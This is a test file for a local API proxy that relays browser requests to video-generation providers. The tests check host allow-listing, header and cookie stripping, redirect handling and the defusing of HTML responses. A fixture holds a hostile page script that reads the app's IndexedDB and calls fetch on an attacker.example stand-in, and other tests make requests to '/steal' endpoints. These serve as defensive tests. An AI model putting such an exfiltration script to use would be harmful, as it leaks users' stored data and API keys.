import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { isAllowed } from '../../scripts/api-proxy.mjs'
import { serveStatic, type ServedDirectory } from '../../scripts/serve.mjs'

interface Seen {
  method: string
  url: string
  headers: IncomingHttpHeaders
  body: string
}

/** A page that would read the app's storage and send it away, were it ever run as the app. */
const HOSTILE_PAGE = '<!doctype html><script>indexedDB.open("reelgraph");fetch("https://attacker.example/?k=")</script>'
const CLIP = Buffer.from('0000001866747970', 'hex')

describe('the API proxy', () => {
  let api: Server
  let apiOrigin: string
  let app: ServedDirectory
  let root: string
  const seen: Seen[] = []

  beforeAll(async () => {
    // One stand-in for every host: what it answers depends on the path alone.
    api = createServer((request, response) => {
      let body = ''
      request.on('data', (chunk: Buffer) => (body += chunk.toString()))
      request.on('end', () => {
        seen.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body })
        const url = new URL(request.url ?? '/', 'http://stand-in')
        if (url.pathname === '/redirect') {
          response.writeHead(Number(url.searchParams.get('status') ?? 302), { Location: url.searchParams.get('to') ?? '/' }).end()
          return
        }
        if (url.pathname === '/loop') return void response.writeHead(302, { Location: '/loop' }).end()
        if (url.pathname.endsWith('expired.mp4')) return void response.writeHead(403, { 'Content-Type': 'application/xml' }).end('<Error/>')
        if (url.pathname.endsWith('.html')) return void response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(HOSTILE_PAGE)
        if (url.pathname.endsWith('.mp4')) return void response.writeHead(200, { 'Content-Type': 'video/mp4', 'Content-Length': CLIP.length }).end(CLIP)
        response.writeHead(201, { 'Content-Type': 'application/json', 'Set-Cookie': 'tracker=1', 'Retry-After': '3' })
        response.end(JSON.stringify({ id: 'task-1' }))
      })
    })
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve))
    const address = api.address()
    apiOrigin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`
    root = await mkdtemp(join(tmpdir(), 'reelgraph-proxy-'))
    await writeFile(join(root, 'index.html'), '<!doctype html><title>app</title>')
    const hosts = ['api.dev.runwayml.com', 'generativelanguage.googleapis.com', 'dnznrvs05pmza.cloudfront.net', 'replicate.delivery', 'storage.googleapis.com', 'd111111abcdef8.cloudfront.net', 'attacker.example']
    app = await serveStatic({ root, upstreams: Object.fromEntries(hosts.map((host) => [host, apiOrigin])) })
  })

  afterAll(async () => {
    await app.close()
    await new Promise((resolve) => api.close(resolve))
    await rm(root, { recursive: true, force: true })
  })

  const proxied = (path: string, init: RequestInit = {}) => fetch(`${app.url}api-proxy/${path}`, { redirect: 'manual', ...init })
  const requestsTo = (path: string) => seen.filter((request) => request.url === path)

  it('forwards method, path, query, body and the key header, and nothing that names the browser', async () => {
    const response = await proxied('api.dev.runwayml.com/v1/image_to_video?x=1', {
      method: 'POST',
      headers: { Authorization: 'Bearer key_123', 'Content-Type': 'application/json', Origin: app.url.slice(0, -1), Cookie: 'session=abc', Referer: app.url },
      body: JSON.stringify({ model: 'gen4_turbo' }),
    })
    expect(response.status).toBe(201)
    expect(await response.json()).toEqual({ id: 'task-1' })
    // The provider's own headers come back; its cookies do not.
    expect(response.headers.get('retry-after')).toBe('3')
    expect(response.headers.get('set-cookie')).toBeNull()
    const request = seen.at(-1) as Seen
    expect(request).toMatchObject({ method: 'POST', url: '/v1/image_to_video?x=1', body: '{"model":"gen4_turbo"}' })
    expect(request.headers.authorization).toBe('Bearer key_123')
    expect(request.headers.origin).toBeUndefined()
    expect(request.headers.cookie).toBeUndefined()
    expect(request.headers.referer).toBeUndefined()
  })

  it('refuses a host that is not a generation API, and sends it nothing', async () => {
    const before = seen.length
    const response = await proxied('example.com/steal', { method: 'POST', body: 'x' })
    expect(response.status).toBe(403)
    expect((await response.json()) as { error: string }).toEqual({ error: expect.stringContaining('example.com is not one of them') })
    expect(seen.length).toBe(before)
  })

  it('answers at its root, so the app can tell it is there', async () => {
    const response = await proxied('')
    expect(await response.json()).toMatchObject({ proxy: 'reelgraph' })
  })

  it('reads results only from the providers’ own result hosts, not from storage anyone can put a page on', async () => {
    expect(isAllowed('dnznrvs05pmza.cloudfront.net', 'GET')).toBe(true)
    expect(isAllowed('v3.fal.media', 'GET')).toBe(true)
    expect(isAllowed('v15-kling.klingai.com', 'GET')).toBe(true)
    expect(isAllowed('storage.cdn-luma.com', 'GET')).toBe(true)
    expect(isAllowed('replicate.delivery', 'GET')).toBe(true)
    expect(isAllowed('dnznrvs05pmza.cloudfront.net', 'POST')).toBe(false)
    expect(isAllowed('evilreplicate.delivery', 'GET')).toBe(false)
    expect(isAllowed('api.replicate.com', 'POST')).toBe(true)
    for (const host of ['storage.googleapis.com', 'd111111abcdef8.cloudfront.net', 'someone.lumalabs.ai', 'app.runwayml.com', 'x.elevenlabs.io']) expect(isAllowed(host, 'GET'), host).toBe(false)
    const before = seen.length
    const bucket = await proxied('storage.googleapis.com/bucket/x.html')
    expect(bucket.status).toBe(403)
    expect(seen.length).toBe(before)
  })

  it('lets a clip be PUT to Topaz’s upload bucket, and to no other bucket', () => {
    expect(isAllowed('videocloud.s3.amazonaws.com', 'PUT')).toBe(true)
    expect(isAllowed('someone-else.s3.amazonaws.com', 'PUT')).toBe(false)
  })

  it('never serves a page from a result host as one: it is refused, and cannot run even so', async () => {
    const response = await proxied('dnznrvs05pmza.cloudfront.net/x.html')
    expect(response.status).toBe(502)
    expect(response.headers.get('content-type')).not.toMatch(/html/)
    expect(response.headers.get('content-disposition')).toBe('attachment')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox;/)
    expect(await response.text()).not.toContain('<script')
  })

  it('passes a page from an API host on only as bytes that download and cannot run', async () => {
    const response = await proxied('api.dev.runwayml.com/x.html')
    expect(response.headers.get('content-type')).toBe('application/octet-stream')
    expect(response.headers.get('content-disposition')).toBe('attachment')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toMatch(/^sandbox;/)
  })

  it('serves a result as the media it is, as an attachment, and an expired link still as expired', async () => {
    const clip = await proxied('dnznrvs05pmza.cloudfront.net/outputs/a.mp4')
    expect(clip.status).toBe(200)
    expect(clip.headers.get('content-type')).toBe('video/mp4')
    expect(clip.headers.get('content-disposition')).toBe('attachment')
    expect(Buffer.from(await clip.arrayBuffer())).toEqual(CLIP)
    const expired = await proxied('dnznrvs05pmza.cloudfront.net/outputs/expired.mp4')
    expect(expired.status).toBe(403)
    expect(expired.headers.get('content-type')).toBe('application/json; charset=utf-8')
    // The provider's answer, not the proxy's refusal: the adapter reads it as an expired link.
    expect(expired.headers.get('x-reelgraph-proxy')).toBeNull()
  })

  it('follows a redirect on the same host itself, key and all (Google’s file downloads)', async () => {
    const response = await proxied('generativelanguage.googleapis.com/redirect?to=/download/v1beta/files/f1.mp4', { headers: { 'x-goog-api-key': 'gemini-key' } })
    expect(response.status).toBe(200)
    expect(response.headers.get('location')).toBeNull()
    expect(Buffer.from(await response.arrayBuffer())).toEqual(CLIP)
    expect(requestsTo('/download/v1beta/files/f1.mp4').at(-1)?.headers['x-goog-api-key']).toBe('gemini-key')
  })

  it('follows a redirect to another host without the key, and gives the browser no redirect to follow with it', async () => {
    const response = await proxied(`api.dev.runwayml.com/redirect?to=${encodeURIComponent('https://replicate.delivery/out/b.mp4')}`, {
      headers: { Authorization: 'Bearer key_123', 'x-goog-api-key': 'gemini-key', 'X-Runway-Version': '2024-11-06', Accept: 'video/*' },
    })
    expect(response.status).toBe(200)
    expect(response.headers.get('location')).toBeNull()
    const followed = requestsTo('/out/b.mp4').at(-1) as Seen
    expect(followed.headers.authorization).toBeUndefined()
    expect(followed.headers['x-goog-api-key']).toBeUndefined()
    expect(followed.headers['x-runway-version']).toBeUndefined()
    expect(followed.headers.accept).toBe('video/*')
  })

  it('refuses a redirect that leads off the allowed hosts, a loop, or a body it cannot send again', async () => {
    const before = seen.length
    const away = await proxied(`api.dev.runwayml.com/redirect?to=${encodeURIComponent('https://attacker.example/steal')}`, { headers: { Authorization: 'Bearer key_123' } })
    expect(away.status).toBe(502)
    expect(away.headers.get('location')).toBeNull()
    expect(seen.slice(before).map((request) => request.url)).not.toContain('/steal')
    expect((await proxied('api.dev.runwayml.com/loop')).status).toBe(502)
    const repeated = await proxied(`api.dev.runwayml.com/redirect?status=307&to=${encodeURIComponent('/v1/tasks')}`, { method: 'POST', body: '{}', headers: { Origin: app.url.slice(0, -1) } })
    expect(repeated.status).toBe(502)
  })
})
